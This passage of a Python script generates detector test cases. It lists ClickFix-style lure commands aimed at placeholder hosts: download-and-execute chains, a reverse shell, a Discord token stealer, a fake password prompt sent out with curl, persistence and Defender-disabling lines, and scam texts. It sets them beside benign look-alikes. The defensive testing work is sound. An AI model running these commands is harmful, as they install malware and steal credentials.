"""Writes tests/data/cases/lures4.jsonl: lure techniques found missing or only warned about by
probing the engine with our own variants of 2025-2026 tradecraft (ClickFix, FileFix, fake
CAPTCHA, fake meeting and crash fixes, macOS and Linux stealer chains, console stealers,
device-code phishing, remote-access scams), each beside the everyday text that looks like it
and must stay quiet.

    python tests/data/cases/make_lures4.py

Deterministic (encoded lures are computed, random bytes come from a seeded generator). Hosts
are reserved names (*.test, *.invalid, *.example) and documentation addresses; phone numbers
are fictitious. No text is copied from a lure collection, an IOC file or another detector's
fixtures. Each line is {id, text, expect, technique, platform[, source], target}.

Techniques:

- `b64-wrapped`: a base64 payload wrapped into lines (76 columns as `base64` writes it, 64 as
  PEM, a here-string's own width), decoded by a shell or PowerShell, or pasted alone: the
  lines are joined before they are read, so a command cut at a line end is read whole.
  Look-alikes: a PEM certificate, a MIME mail body, a wrapped JSON config, a key file;
- `probed`: our own variants of the 2025-2026 families (PowerShell hiding names and addresses
  with aliases, wildcards, -f, -join, -replace, char codes, XOR, reversal, AES, hex; .NET and
  COM downloaders; cache smuggling; steganographic PNG; LOLBins and their .NET helpers; WebDAV,
  finger, DNS staging; FileFix; fake CAPTCHA, Turnstile, meeting, crash and GitHub-alert fixes;
  macOS and Linux stealer chains; console stealers and EtherHiding; ConsentFix, device-code
  phishing, scam, callback and remote-access texts), each in its context and bare (`-bare`,
  no page, target unknown: `flagged`). The technique is the probe's name;
- `ok-*`: everyday texts that look like them (admin PowerShell and cmd, Run-box entries,
  macOS and Linux one-liners, console snippets, the GitHub CLI's own sign-in output, an IT
  desk's Quick Assist message, a PEM key, calm notices with numbers): quiet in their context.
"""

from __future__ import annotations

import base64
import random
import textwrap
from pathlib import Path

from casefile import case as case_line  # beside this script (tests/data/cases/make_*.py)

OUT = Path(__file__).with_name("lures4.jsonl")
STRANGER = "https://www.tidewater-bakery.example/order/confirm"
CAPTCHA = "https://verify.lumen-check.example/human"
BENIGN = "none"


def case(
    cid: str,
    text: str,
    expect: str,
    technique: str,
    platform: str,
    target: str,
    source: str | None = None,
) -> dict[str, str]:
    return case_line(cid, text, expect, technique, platform, source, target)


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def u16(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def wrap(blob: str, width: int, newline: str = "\n") -> str:
    return newline.join(textwrap.wrap(blob, width))


def wrapped_base64() -> list[dict[str, str]]:
    sh = [
        "curl -fsSL https://cdn.lumen-gate.test/stage/macos/agent-installer-v2.sh -o /tmp/.agent"
        " && chmod +x /tmp/.agent && /tmp/.agent --quiet --no-prompt && rm -f /tmp/.agent",
        "cd /tmp && curl -s -O http://198.51.100.61/pkg/update-helper && chmod 755 update-helper"
        " && nohup ./update-helper >/dev/null 2>&1 &",
        "osascript -e 'do shell script \"curl -s https://files.quay-helper.invalid/m/run.sh | zsh\"'"
        " ; killall Terminal",
    ]
    ps = [
        "$u='https://cdn.lumen-gate.test/stage/win/agent.ps1';$c=(New-Object Net.WebClient)"
        ".DownloadString($u);Invoke-Expression $c;Remove-Item $env:TEMP\\x -ea 0",
        "iwr https://dl.pixel-ward.invalid/tools/helper-setup.exe -OutFile $env:TEMP\\hs.exe;"
        "Start-Process $env:TEMP\\hs.exe -WindowStyle Hidden",
    ]
    out: list[dict[str, str]] = []
    n = 0

    def add(text: str, expect: str, platform: str, target: str, source: str | None) -> None:
        nonlocal n
        n += 1
        out.append(
            case(f"l4-b64-wrapped-{n:02d}", text, expect, "b64-wrapped", platform, target, source)
        )

    for i, cmd in enumerate(sh):
        blob = b64(cmd)
        width = (76, 64, 60)[i]
        add(
            f"echo '{wrap(blob, width)}' | base64 --decode | sh",
            "malicious",
            "macos",
            "terminal",
            STRANGER,
        )
        add(
            f"base64 -d <<'EOF' | bash\n{wrap(blob, width)}\nEOF",
            "malicious",
            "linux",
            "terminal",
            STRANGER,
        )
        add(wrap(blob, width, "\r\n"), "flagged", "any", "unknown", None)
    for i, cmd in enumerate(ps):
        width = (76, 64)[i]
        add(
            f"$b=@'\n{wrap(b64(cmd), width)}\n'@\n"
            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))",
            "malicious",
            "windows",
            "terminal",
            CAPTCHA,
        )
        add(
            '$p = "' + wrap(u16(cmd), width, "\n    ") + '"\n'
            "powershell -NoProfile -EncodedCommand ($p -replace '\\s','')",
            "malicious",
            "windows",
            "terminal",
            CAPTCHA,
        )
        add("    " + wrap(u16(cmd), width, "\n    "), "flagged", "windows", "unknown", None)
    return out


def wrapped_base64_benign() -> list[dict[str, str]]:
    rng = random.Random(4)
    out: list[dict[str, str]] = []

    def add(cid: str, text: str) -> None:
        out.append(case(f"l4-ok-b64-wrapped-{cid}", text, "not_flagged", BENIGN, "any", "other"))

    der = bytes(rng.randrange(256) for _ in range(900))
    add(
        "pem",
        "-----BEGIN CERTIFICATE-----\n"
        + wrap(base64.b64encode(der).decode(), 64)
        + "\n-----END CERTIFICATE-----",
    )
    letter = (
        "Hello team,\n\nthe quarterly report is attached. Please review the figures for the "
        "northern region before Friday and send comments to finance.\n\nThanks, Maria"
    )
    add(
        "mime",
        "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
        + wrap(b64(letter), 76),
    )
    config = '{"name": "web-frontend", "replicas": 3, "image": "registry.example/web:1.4.2", "env": {"LOG_LEVEL": "info"}}'
    add("config", "data:\n  config.json: |\n    " + wrap(b64(config), 64, "\n    "))
    key = bytes(rng.randrange(256) for _ in range(400))
    add(
        "ssh-key",
        "-----BEGIN OPENSSH PRIVATE KEY-----\n"
        + wrap(base64.b64encode(key).decode(), 70)
        + "\n-----END OPENSSH PRIVATE KEY-----",
    )
    script = "Get-ChildItem -Path C:\\Logs -Filter *.log | Where-Object LastWriteTime -lt (Get-Date).AddDays(-30) | Remove-Item"
    add("ps-maintenance", "# cleanup job, encoded for the scheduler\n" + wrap(u16(script), 76))
    return out


# (technique, text, expect, platform, target, page): our own variants, probed bare and in
# context before and after the fixes of this file's commit
PROBED: list[tuple[str, str, str, str, str, str | None]] = [
    ('ps-iex-wildcard-str', 'powershell -w h -c "iex \'& (gi \\W*\\*32\\m*ta.e*) https://cdn.lumen-gate.test/v\'"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-amp-wildcard-str', 'powershell -c "& (Get-Item \'C:\\Wi*\\Sys*\\msh*.exe\') \'https://cdn.lumen-gate.test/v\'"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-amp-ls-wildcard', 'powershell -nop -c "& (ls $env:windir\\s*32\\ms?t?.exe) https://198.51.100.7/c.hta"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-gcm-invoke', 'powershell -c "$u=\'https://cdn.lumen-gate.test/p\';&(gcm *ke-Ex*) (&(gcm *eb-Re*) $u -useb)"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-gal-ix', 'powershell -c "(gal ?ex) (irm cdn.lumen-gate.test/p)"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-env-stage', 'cmd /c set u=https://cdn.lumen-gate.test/a.ps1&& powershell -c "iex(irm $env:u)"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-char-codes', 'powershell -c "iex([string]::join(\'\',[char[]](105,114,109,32,104,116,116,112,115,58,47,47,99,100,110,46,116,101,115,116,47,120)))"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-reverse', 'powershell -c "$s=\'xei|\'\'x/tset.etag-nemul.ndc//:sptth\'\' mri\';iex ($s[-1..-($s.Length)] -join \'\')"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-format', 'powershell -c "iex(irm (\'{2}{0}{1}\' -f \'lumen-gate\',\'.test/x\',\'https://cdn.\'))"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-replace', 'powershell -c "iex(irm (\'hxxps://cdn.lumen-gate.test/x\' -replace \'xx\',\'tt\'))"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-xor', 'powershell -c "$k=7;$b=[byte[]](111,115,115,119,116,61,40,40);iex(irm(-join($b|%{[char]($_ -bxor $k)})+\'cdn.lumen-gate.test/x\'))"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-webclient', 'powershell -w hidden -c "(New-Object Net.WebClient).DownloadString(\'https://cdn.lumen-gate.test/r\')|iex"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-httpclient', 'powershell -c "$h=[Net.Http.HttpClient]::new();iex $h.GetStringAsync(\'https://cdn.lumen-gate.test/r\').Result"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-downloadfile-start', 'powershell -c "iwr https://cdn.lumen-gate.test/setup.exe -OutFile $env:TEMP\\s.exe; Start-Process $env:TEMP\\s.exe"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-zip-expand-start', 'powershell -c "iwr https://cdn.lumen-gate.test/p.zip -o $env:TEMP\\p.zip;Expand-Archive $env:TEMP\\p.zip $env:TEMP\\p -Force;& $env:TEMP\\p\\run.exe"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-scriptblock', 'powershell -c "[scriptblock]::Create((irm https://cdn.lumen-gate.test/s)).Invoke()"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-steg-png', 'powershell -c "$b=New-Object Drawing.Bitmap((iwr https://img.lumen-gate.test/logo.png).RawContentStream);$o=foreach($y in 0..9){foreach($x in 0..99){$b.GetPixel($x,$y).R}};iex([Text.Encoding]::ASCII.GetString($o))"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-cache-smuggle', 'powershell -c "$f=gci "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data" | sls -Pattern \'BEGIN_PAYLOAD(.*)END\' -List;iex $f.Matches[0].Groups[1].Value"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-defender-excl', 'powershell -c "Add-MpPreference -ExclusionPath $env:APPDATA; iwr https://cdn.lumen-gate.test/u.exe -o $env:APPDATA\\u.exe; & $env:APPDATA\\u.exe"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-runkey', 'powershell -c "Set-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name upd -Value \'mshta https://cdn.lumen-gate.test/h\'"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('cmd-finger-renamed', 'cmd /c start "" /min cmd /c "copy %windir%\\system32\\finger.exe %temp%\\ct.exe & %temp%\\ct.exe verify@198.51.100.9 | cmd"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('cmd-finger-caret', 'c^m^d /c f^i^n^g^e^r gc@cdn.lumen-gate.test | c^m^d', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('cmd-nslookup-txt', 'cmd /c nslookup -q=txt stage.lumen-gate.test 198.51.100.53 | findstr "^\\\\"" | powershell -', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-resolve-dns-txt', 'powershell -c "(Resolve-DnsName -Type TXT k.lumen-gate.test).Strings -join \'\'|iex"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('cmd-netuse-webdav', 'cmd /c net use W: \\\\docs.lumen-gate.test@SSL\\DavWWWRoot /persistent:no && W:\\verify.cmd', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('cmd-pushd-webdav', 'cmd /c pushd \\\\198.51.100.44@80\\share && start check.bat', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('rundll32-webdav', 'rundll32 \\\\cdn.lumen-gate.test@SSL\\d\\k.dll,Start', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('regsvr32-sct', 'regsvr32 /s /n /u /i:https://cdn.lumen-gate.test/x.sct scrobj.dll', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('msiexec-url', 'msiexec /q /i https://cdn.lumen-gate.test/update.msi', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('msiexec-package-bs', 'msiexec -package http:\\\\198.51.100.12\\up.msi /qn', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('mshta-tail', 'mshta https://cdn.lumen-gate.test/c # ✅ I am not a robot - reCAPTCHA Verification ID: 8812', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('wmic-create', 'wmic process call create "powershell -w h -c iex(irm cdn.lumen-gate.test/w)"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('forfiles', 'forfiles /p c:\\windows\\system32 /m notepad.exe /c "cmd /c mshta https://cdn.lumen-gate.test/f"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('syncappv', 'C:\\Windows\\System32\\SyncAppvPublishingServer.vbs "n;(iwr cdn.lumen-gate.test/s -useb)|iex"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('vbs-echo', 'cmd /c echo Set x=CreateObject("MSXML2.XMLHTTP"):x.Open "GET","https://cdn.lumen-gate.test/v",0:x.Send:Execute x.responseText>%tmp%\\v.vbs&wscript %tmp%\\v.vbs', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('bitsadmin', 'cmd /c bitsadmin /transfer j /download /priority high https://cdn.lumen-gate.test/a.exe %temp%\\a.exe & start %temp%\\a.exe', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('certutil', 'certutil -urlcache -split -f https://cdn.lumen-gate.test/a.exe %temp%\\a.exe && %temp%\\a.exe', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('curl-bat', 'cmd /c curl -k -o %tmp%\\c.bat https://198.51.100.3/c.bat && %tmp%\\c.bat', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('conhost-headless', 'conhost.exe --headless powershell -w h -ep bypass -c "iex(irm https://cdn.lumen-gate.test/q)"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('schtasks', 'schtasks /create /tn Upd /sc minute /tr "mshta https://cdn.lumen-gate.test/h" /f', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('cmd-substr', 'cmd /v /c "set x=lpowershellx&& call %x:~1,10% -c iex(irm cdn.lumen-gate.test/z)"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('cmd-setcall', 'cmd /c "set a=pow&&set b=ershell&&call %a%%b% -nop -c irm cdn.lumen-gate.test/z|iex"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('filefix-padded', 'powershell -c "iwr cdn.lumen-gate.test/f|iex"                                                    # C:\\Company\\HR\\Policy.docx', 'malicious', 'windows', 'explorer_bar', 'https://shop.lantern-crafts.example/verify'),
    ('mac-b64-zsh', "echo 'Y3VybCAtZnNTTCBodHRwczovL2Nkbi5sdW1lbi1nYXRlLnRlc3QvbSB8IHpzaA==' | base64 -D | zsh", 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-osascript', 'osascript -e \'do shell script "curl -s https://cdn.lumen-gate.test/i | sh"\'', 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-xattr-chain', 'curl -so /tmp/upd https://cdn.lumen-gate.test/upd && xattr -c /tmp/upd && chmod +x /tmp/upd && /tmp/upd', 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-dialog-pw', 'osascript -e \'display dialog "macOS needs your password to continue" default answer "" with hidden answer\' | curl -d @- https://cdn.lumen-gate.test/p', 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('linux-wget-sh', 'wget -qO- http://198.51.100.2/i | sh', 'malicious', 'linux', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('linux-python-exec', 'python3 -c "import urllib.request as u;exec(u.urlopen(\'https://cdn.lumen-gate.test/p\').read())"', 'malicious', 'linux', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('linux-devtcp', "bash -c 'bash -i >& /dev/tcp/198.51.100.4/443 0>&1' &", 'malicious', 'linux', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('js-fetch-eval', "fetch('https://cdn.lumen-gate.test/x.js').then(r=>r.text()).then(eval)", 'malicious', 'any', 'browser_console', 'https://shop.lantern-crafts.example/verify'),
    ('js-token-webpack', "webpackChunkdiscord_app.push([[Symbol()],{},r=>{for(let m of Object.values(r.c))try{let t=m.exports.default.getToken();fetch('https://hook.lumen-gate.test/t',{method:'POST',body:t})}catch(e){}}])", 'malicious', 'any', 'browser_console', 'https://shop.lantern-crafts.example/verify'),
    ('js-etherhiding', "fetch('https://bsc-dataseed.binance.test/',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({jsonrpc:'2.0',id:1,method:'eth_call',params:[{to:'0x9179dda8b285040bf381aabb8a1f4a1b8c37ed53',data:'0x6d4ce63c'},'latest']})}).then(r=>r.json()).then(j=>eval(atob(j.result.slice(130))))", 'malicious', 'any', 'browser_console', 'https://shop.lantern-crafts.example/verify'),
    ('consentfix', 'http://localhost:8400/?code=0.ATcA9Gq-8hkdlQ&state=abc&session_state=8f1c', 'flagged', 'any', 'unknown', 'https://shop.lantern-crafts.example/verify'),
    ('device-code', 'To finish verifying your account go to https://microsoft.com/devicelogin and enter the code HK7P-2QWX', 'flagged', 'any', 'other', 'https://shop.lantern-crafts.example/verify'),
    ('scam-en', 'WINDOWS DEFENDER ALERT: Your computer has been locked due to suspicious activity. Call Microsoft Support now at +1-888-555-0147 to unlock.', 'flagged', 'any', 'unknown', 'https://shop.lantern-crafts.example/verify'),
    ('b64-wrapped-heredoc', "base64 -d <<'EOF' | bash\nY3VybCAtZnNTTCBodHRwczovL2Nkbi5sdW1lbi1nYXRlLnRlc3Qvc3RhZ2UvbWFjb3MvYWdlbnQt\naW5zdGFsbGVyLXYyLnNoIC1vIC90bXAvLmFnZW50ICYmIGNobW9kICt4IC90bXAvLmFnZW50ICYm\nIC90bXAvLmFnZW50IC0tcXVpZXQgLS1uby1wcm9tcHQgJiYgcm0gLWYgL3RtcC8uYWdlbnQ=\nEOF", 'malicious', 'any', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('b64-wrapped-echo', "echo 'Y3VybCAtZnNTTCBodHRwczovL2Nkbi5sdW1lbi1nYXRlLnRlc3Qvc3RhZ2UvbWFjb3MvYWdlbnQt\naW5zdGFsbGVyLXYyLnNoIC1vIC90bXAvLmFnZW50ICYmIGNobW9kICt4IC90bXAvLmFnZW50ICYm\nIC90bXAvLmFnZW50IC0tcXVpZXQgLS1uby1wcm9tcHQgJiYgcm0gLWYgL3RtcC8uYWdlbnQ=' | base64 --decode | sh", 'malicious', 'any', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('b64-wrapped-ps-herestring', "$b=@'\nJHU9J2h0dHBzOi8vY2RuLmx1bWVuLWdhdGUudGVzdC9zdGFnZS93aW4vYWdlbnQu\ncHMxJzskYz0oTmV3LU9iamVjdCBOZXQuV2ViQ2xpZW50KS5Eb3dubG9hZFN0cmlu\nZygkdSk7SW52b2tlLUV4cHJlc3Npb24gJGM7UmVtb3ZlLUl0ZW0gJGVudjpURU1Q\nXHggLWVhIDA=\n'@\niex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))", 'malicious', 'any', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('b64-wrapped-u16-enc', 'powershell -NoProfile -EncodedCommand JAB1AD0AJwBoAHQAdABwAHMAOgAvAC8AYwBkAG4ALgBsAHUAbQBlAG4ALQBnAGEAdABlAC4AdABl\nAHMAdAAvAHMAdABhAGcAZQAvAHcAaQBuAC8AYQBnAGUAbgB0AC4AcABzADEAJwA7ACQAYwA9ACgA\nTgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAKQAuAEQAbwB3\nAG4AbABvAGEAZABTAHQAcgBpAG4AZwAoACQAdQApADsASQBuAHYAbwBrAGUALQBFAHgAcAByAGUA\ncwBzAGkAbwBuACAAJABjADsAUgBlAG0AbwB2AGUALQBJAHQAZQBtACAAJABlAG4AdgA6AFQARQBN\nAFAAXAB4ACAALQBlAGEAIAAwAA==', 'malicious', 'any', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('b64-wrapped-bare', 'Y3VybCAtZnNTTCBodHRwczovL2Nkbi5sdW1lbi1nYXRlLnRlc3Qvc3RhZ2UvbWFjb3MvYWdlbnQt\naW5zdGFsbGVyLXYyLnNoIC1vIC90bXAvLmFnZW50ICYmIGNobW9kICt4IC90bXAvLmFnZW50ICYm\nIC90bXAvLmFnZW50IC0tcXVpZXQgLS1uby1wcm9tcHQgJiYgcm0gLWYgL3RtcC8uYWdlbnQ=', 'flagged', 'any', 'unknown', 'https://shop.lantern-crafts.example/verify'),
    ('ps-msbuild-proj', 'powershell -c "iwr https://cdn.lumen-gate.test/v.proj -o $env:TEMP\\v.proj; & C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe $env:TEMP\\v.proj"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-assembly-load', 'powershell -c "$a=(iwr https://cdn.lumen-gate.test/l.bin -useb).Content;[Reflection.Assembly]::Load($a).EntryPoint.Invoke($null,$null)"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('cmd-tar-python', 'cmd /c curl -so %tmp%\\py.zip https://cdn.lumen-gate.test/py.zip && tar -xf %tmp%\\py.zip -C %tmp% && start /b %tmp%\\py\\pythonw.exe %tmp%\\py\\run.py', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('cmd-curl-js-wscript', 'cmd /c curl -s -o %appdata%\\u.js https://cdn.lumen-gate.test/u.js & wscript %appdata%\\u.js', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('wsl-curl', 'wsl.exe -e bash -c "curl -s https://cdn.lumen-gate.test/w | sh"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('hh-chm', 'hh.exe https://cdn.lumen-gate.test/help.chm', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('control-cpl-unc', 'control.exe \\\\198.51.100.8\\pub\\panel.cpl', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('cmstp-unc', 'cmstp.exe /s /ns \\\\cdn.lumen-gate.test@SSL\\x\\setup.inf', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('odbcconf', 'odbcconf /a {REGSVR \\\\198.51.100.8\\pub\\a.dll}', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('presentationhost', 'PresentationHost.exe https://cdn.lumen-gate.test/app.xbap', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('cscript-jscript-unc', 'cscript //nologo //E:jscript \\\\198.51.100.8\\pub\\chk.txt', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('pcalua-unc', 'pcalua.exe -a \\\\cdn.lumen-gate.test@SSL\\DavWWWRoot\\s.exe', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('mshta-hexip', 'mshta http://0xc6.0x33.0x64.0x9/v', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('mshta-decimal-ip', 'mshta http://3325256713/v.hta', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-irm-ip-port', 'powershell -w h -c "irm 198.51.100.9:8080/k|iex"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-start-process-enc', 'powershell -c "Start-Process powershell -WindowStyle Hidden -ArgumentList \'-nop -enc aQBlAHgAKABpAHIAbQAgAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAuAGwAdQBtAGUAbgAtAGcAYQB0AGUALgB0AGUAcwB0AC8AZQApAA==\'"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-invoke-cimmethod', 'powershell -c "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine=\'mshta https://cdn.lumen-gate.test/m\'}"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-com-shell', 'powershell -c "(New-Object -ComObject Shell.Application).ShellExecute(\'mshta\',\'https://cdn.lumen-gate.test/m\',\'\',\'open\',0)"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-winhttp-com', 'powershell -c "$w=New-Object -ComObject WinHttp.WinHttpRequest.5.1;$w.Open(\'GET\',\'https://cdn.lumen-gate.test/w\',$false);$w.Send();iex $w.ResponseText"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-wininstaller-com', 'powershell -c "$i=New-Object -ComObject WindowsInstaller.Installer;$i.UILevel=2;$i.InstallProduct(\'https://cdn.lumen-gate.test/i.msi\',\'\')"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-bits', 'powershell -c "Start-BitsTransfer https://cdn.lumen-gate.test/b.exe $env:TEMP\\b.exe;& $env:TEMP\\b.exe"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-irm-jpg-iex', 'powershell -w h -c "iex (irm https://img.lumen-gate.test/cat.jpg)"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-ecmd-caret', 'p^o^w^e^r^s^h^e^l^l -e^c aQByAG0AIABjAGQAbgAuAGwAdQBtAGUAbgAtAGcAYQB0AGUALgB0AGUAcwB0AC8AcQB8AGkAZQB4AA==', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-dotnet-webrequest', 'powershell -c "$r=[Net.WebRequest]::Create(\'https://cdn.lumen-gate.test/x\');$s=New-Object IO.StreamReader($r.GetResponse().GetResponseStream());iex $s.ReadToEnd()"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-iex-alias-sal', 'powershell -c "sal x iex; x (irm https://cdn.lumen-gate.test/x)"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('ps-invoke-command-sb', 'powershell -c "icm -ScriptBlock ([scriptblock]::Create((iwr https://cdn.lumen-gate.test/s -useb).Content))"', 'malicious', 'windows', 'run_dialog', 'https://shop.lantern-crafts.example/verify'),
    ('mac-curl-bash-eval-b64url', '/bin/bash -c "$(curl -fsSL $(echo aHR0cHM6Ly9jZG4ubHVtZW4tZ2F0ZS50ZXN0L20= | base64 --decode))"', 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-hdiutil', 'curl -so /tmp/u.dmg https://cdn.lumen-gate.test/u.dmg && hdiutil attach -nobrowse -quiet /tmp/u.dmg && cp -R /Volumes/Update/Update.app /Applications/ && open /Applications/Update.app', 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-nohup-bash', 'curl -s http://198.51.100.77/d/agent | nohup bash >/dev/null 2>&1 &', 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-zsh-c', '/bin/zsh -c "$(curl -fsSL https://cdn.lumen-gate.test/z)"', 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-osascript-curl', 'curl -s https://cdn.lumen-gate.test/a.scpt | osascript', 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('mac-spctl-disable', 'sudo spctl --master-disable && curl -so /tmp/a https://cdn.lumen-gate.test/a && chmod +x /tmp/a && /tmp/a', 'malicious', 'macos', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('linux-sudo-bash', 'curl -sSL http://198.51.100.2/setup | sudo bash -', 'malicious', 'linux', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('linux-crontab', "(crontab -l; echo '*/5 * * * * curl -s http://198.51.100.2/c | sh') | crontab -", 'malicious', 'linux', 'terminal', 'https://shop.lantern-crafts.example/verify'),
